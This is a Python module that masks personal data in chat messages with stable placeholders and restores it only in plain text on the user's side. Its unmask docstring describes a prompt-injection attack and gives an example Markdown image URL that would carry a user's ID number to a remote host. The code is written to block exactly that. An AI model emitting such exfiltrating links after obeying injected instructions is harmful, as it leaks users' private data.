"""Mask personal data before text leaves the machine; restore it only for the user.

A `Vault` remembers which value got which placeholder ("〔手机号1〕"), so one
chat keeps stable placeholders across turns and the model's answer can be
turned back into the user's own details locally.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from .pii import Span, _room, find_spans

LABELS = ("手机号", "电话", "身份证", "银行卡", "邮箱", "姓名", "地址")
# Lenient on purpose: models sometimes echo 〔姓名1〕 as 【姓名1】 or [姓名 1].
PLACEHOLDER = re.compile(rf"[〔【\[] ?(?P<label>{'|'.join(LABELS)}) ?(?P<n>\d{{1,4}}) ?[〕】\]]")
MAX_PLACEHOLDER = 16  # longer than any PLACEHOLDER match
_OPENERS = "〔【["
_CLOSERS = "〕】]"


@dataclass
class Vault:
    """Placeholder ↔ value table for one conversation."""

    by_value: dict[tuple[str, str], str] = field(default_factory=dict)
    by_slot: dict[tuple[str, int], str] = field(default_factory=dict)
    counts: dict[str, int] = field(default_factory=dict)

    def placeholder(self, label: str, value: str, avoid: set[tuple[str, int]]) -> str:
        """Same value → same placeholder; `avoid` holds slots the text itself already spells."""
        known = self.by_value.get((label, value))
        if known:
            return known
        n = self.counts.get(label, 0) + 1
        while (label, n) in avoid:
            n += 1
        self.counts[label] = n
        self.by_slot[(label, n)] = value
        self.by_value[(label, value)] = placeholder = f"〔{label}{n}〕"
        return placeholder

    def lookup(self, label: str, n: int) -> str | None:
        return self.by_slot.get((label, n))

    def __len__(self) -> int:
        return len(self.by_slot)


def _find_spans(text: str, vault: Vault) -> list[Span]:
    # Placeholders already in the text are never read as data ("〔地址1〕" holds a label word
    # and a digit); values seen before (this turn or earlier) are masked wherever they recur,
    # first, so a fresh reading of glued text ("…12346222-0212…") cannot split them.
    taken: list[Span] = [(m.start(), m.end(), None) for m in PLACEHOLDER.finditer(text)]
    _add_recurring(text, sorted(vault.by_value, key=lambda k: -len(k[1])), taken)
    taken = find_spans(text, taken)
    found = {(label, text[s:e]) for s, e, label in taken if label}
    _add_recurring(text, sorted(found, key=lambda k: -len(k[1])), taken)
    return sorted(s for s in taken if s[2])


def _add_recurring(text: str, values: list[tuple[str, str]], taken: list[Span]) -> None:
    for label, value in values:
        for m in re.finditer(re.escape(value), text):
            if len(value) >= 2 and _room(m.start(), m.end(), taken) == m.end():
                taken.append((m.start(), m.end(), label))


def mask(text: str, vault: Vault | None = None) -> tuple[str, Vault]:
    """Replace personal data with placeholders; pass the same vault for every turn."""
    vault = vault if vault is not None else Vault()
    avoid = {(m["label"], int(m["n"])) for m in PLACEHOLDER.finditer(text)}
    out, pos = [], 0
    for start, end, label in _find_spans(text, vault):
        out += [text[pos:start], vault.placeholder(label or "", text[start:end], avoid)]
        pos = end
    out.append(text[pos:])
    return "".join(out), vault


def unmask(text: str, vault: Vault, context: str = "") -> str:
    """Put the real values back, but only in plain text.

    A placeholder inside a link or image target, a bare URL, or an HTML tag stays a
    placeholder: a model that follows an injected instruction could otherwise make
    the page fetch `![](http://host/?id=〔身份证1〕)` with the real number. `context`
    is the text shown before `text` (for streaming). Unknown placeholders stay too.
    """
    full, offset = context + text, len(context)
    out, pos = [], 0
    for m in PLACEHOLDER.finditer(text):
        value = vault.lookup(m["label"], int(m["n"]))
        if value is None or in_link(full, offset + m.start()):
            continue
        out += [text[pos : m.start()], value]
        pos = m.end()
    out.append(text[pos:])
    return "".join(out)


# What makes the text before a placeholder a URL, a link/image target or markup.
_URL_MARKS = re.compile(r"[a-z][a-z0-9+.-]*:|//|www\.|[a-z0-9-]+(?:\.[a-z0-9-]+)+(?::\d+)?[/?#]|[?&][\w.-]*=",
                        re.IGNORECASE)
_REF_DEF = re.compile(r"[ \t]{0,3}\[[^\]\n]{0,200}\]:")
_RUN_END = " \t\r\n\f\v<>\"'`\u3000"
MAX_RUN = 2048  # a longer unbroken run before a placeholder is treated as a URL (safe side, bounded work)


def in_link(text: str, index: int) -> bool:
    """True when position `index` of `text` is part of a URL, a Markdown link/image target or an HTML tag."""
    if text.rfind("<", 0, index) > text.rfind(">", 0, index):
        return True  # <img src=…, <a href=…, <http://…> (tags may span lines)
    line = text.rfind("\n", 0, index) + 1
    target = text.rfind("](", line, index)
    if target >= 0 and text.find(")", target, index) < 0:
        return True  # [text](target… or ![alt](target…
    if _REF_DEF.match(text, line):
        return True  # [1]: target
    window = max(line, index - MAX_RUN)
    start = max(window, *(text.rfind(c, window, index) + 1 for c in _RUN_END))
    if start == window > line:
        return True  # no break within MAX_RUN characters
    return bool(_URL_MARKS.search(text, start, index))


# --- Stored text: feedback records and eval outputs ---------------------------------------------
# A Markdown image in stored text would load a remote address in whatever viewer opens the file.
_MD_IMAGE = re.compile(r"!\[([^\]\n]{0,200})\]\([^)\n]{0,2000}\)")
STORED_FIELDS = ("query", "question", "answer", "reason", "note")
RAW_ENV = "YUQI_STORE_RAW"  # "1": keep personal data in clear in feedback (one's own evaluation)


def store_raw_default() -> bool:
    import os

    return os.environ.get(RAW_ENV, "").strip().lower() in ("1", "true", "yes", "on")


def for_storage(text: str, vault: Vault | None = None, keep_raw: bool = False) -> str:
    """Text as it may be written to disk: personal data masked (unless `keep_raw`), images inert."""
    text = _MD_IMAGE.sub(lambda m: f"〔图片未显示：{m.group(1)}〕" if m.group(1) else "〔图片未显示〕", text or "")
    return text if keep_raw else mask(text, vault if vault is not None else Vault())[0]


def mask_record(record: dict, keep_raw: bool = False, fields: tuple[str, ...] = STORED_FIELDS) -> dict:
    """A copy of `record` with its free-text fields made safe to store (one vault: stable placeholders)."""
    vault = Vault()
    return {k: for_storage(v, vault, keep_raw) if k in fields and isinstance(v, str) else v
            for k, v in record.items()}


def mask_messages(messages: list[dict], vault: Vault) -> list[dict]:
    """Copies of chat messages with every text content masked."""
    return [_mask_message(message, vault) for message in messages]


def _mask_message(message: dict, vault: Vault) -> dict:
    content = message.get("content")
    if isinstance(content, str):
        return {**message, "content": mask(content, vault)[0]}
    if isinstance(content, list):  # multi-part content: only text parts carry prose
        parts = [
            {**part, "text": mask(part["text"], vault)[0]}
            if isinstance(part, dict) and isinstance(part.get("text"), str) else part
            for part in content
        ]
        return {**message, "content": parts}
    return dict(message)


class Unmasker:
    """Unmask a stream of deltas without ever showing half a placeholder."""

    def __init__(self, vault: Vault):
        self.vault = vault
        self._held = ""
        self._seen = ""  # masked text released so far: decides whether a placeholder sits in a link

    def feed(self, delta: str) -> str:
        text = self._held + delta
        cut = _open_tail(text)
        self._held = text[cut:]
        return self._release(text[:cut])

    def flush(self) -> str:
        text, self._held = self._held, ""
        return self._release(text)

    def _release(self, text: str) -> str:
        shown = unmask(text, self.vault, self._seen)
        self._seen += text
        return shown


def _open_tail(text: str) -> int:
    """Index where a possibly unfinished placeholder starts, or len(text)."""
    start = max(text.rfind(c) for c in _OPENERS)
    if start < 0 or len(text) - start >= MAX_PLACEHOLDER:
        return len(text)
    if any(c in text[start:] for c in _CLOSERS):
        return len(text)
    return start
